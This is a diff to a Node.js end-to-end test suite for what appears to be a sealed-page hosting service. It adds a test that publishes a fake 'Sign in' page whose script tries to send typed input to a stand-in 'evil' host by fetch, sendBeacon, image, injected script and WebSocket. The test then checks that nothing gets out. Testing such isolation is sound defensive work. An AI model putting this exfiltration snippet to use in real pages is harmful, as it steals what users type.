@@ -4,13 +4,14 @@
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
 import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import net from 'node:net';
 import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { promisify } from 'node:util';
 import { launch, openPage } from './browser.mjs';
 import { publish, request, siteHost } from './http.mjs';
 import { FRAGMENT, fragment, seal, sealBare, VECTORS } from './sealed.mjs';
-import { operatorKey, ROOT, startServer, tempDir } from './server.mjs';
+import { operatorKey, ROOT, sleep, startServer, tempDir } from './server.mjs';
 
 const WORDS = 'the plaintext that must not be on disk';
 const PAGE = `<!doctype html><title>Sealed</title><p>${WORDS}</p><script>document.body.dataset.ran = 'yes'</script>`;
@@ -120,6 +121,32 @@ describe('by hand', () => {
     const late = await stranger.newPage();
     assert.equal((await late.goto(site.url + FRAGMENT)).status(), 410);
     await stranger.close();
+  });
+
+  test('without an account it sends nothing of what is typed, and says who looked at it: nobody', async () => {
+    let calls = 0;
+    const outside = net.createServer((socket) => {
+      calls += 1;
+      socket.destroy();
+    });
+    await new Promise((resolve) => outside.listen(0, '127.0.0.1', resolve));
+    const evil = `http://127.0.0.1:${outside.address().port}`;
+    const hostile = `<!doctype html><title>Sign in</title><p>${WORDS}</p><form action="${evil}/form"><input name="word"><button>Send</button></form>
+      <script>document.querySelector('form').addEventListener('submit', () => { const word = document.querySelector('input').value;
+        for (const act of [() => fetch('${evil}/?' + word), () => navigator.sendBeacon('${evil}/?' + word), () => (new Image().src = '${evil}/?' + word),
+          () => document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/?' + word })), () => new WebSocket('${evil.replace('http', 'ws')}')]) {
+          try { Promise.resolve(act()).catch(() => {}); } catch {} } document.body.dataset.tried = 'yes'; });</script>`;
+    const site = await publish(server, { name: 'page', bytes: seal(hostile), fields: { e2e: 'true' } });
+    const page = await open(site.url + FRAGMENT);
+    await shown(page, WORDS);
+    await page.locator('input[name=word]').fill('typed');
+    await page.getByRole('button', { name: 'Send' }).click();
+    await page.waitForFunction(() => document.body.dataset.tried === 'yes');
+    await sleep(500);
+    assert.equal(calls, 0, 'nothing left');
+    assert.ok(page.url().endsWith(FRAGMENT), 'it is still there');
+    assert.ok(await page.locator('[popover]').count(), 'the notice is over it');
+    outside.close();
   });
 
   test('a plain client gets the bytes as they came', async () => {
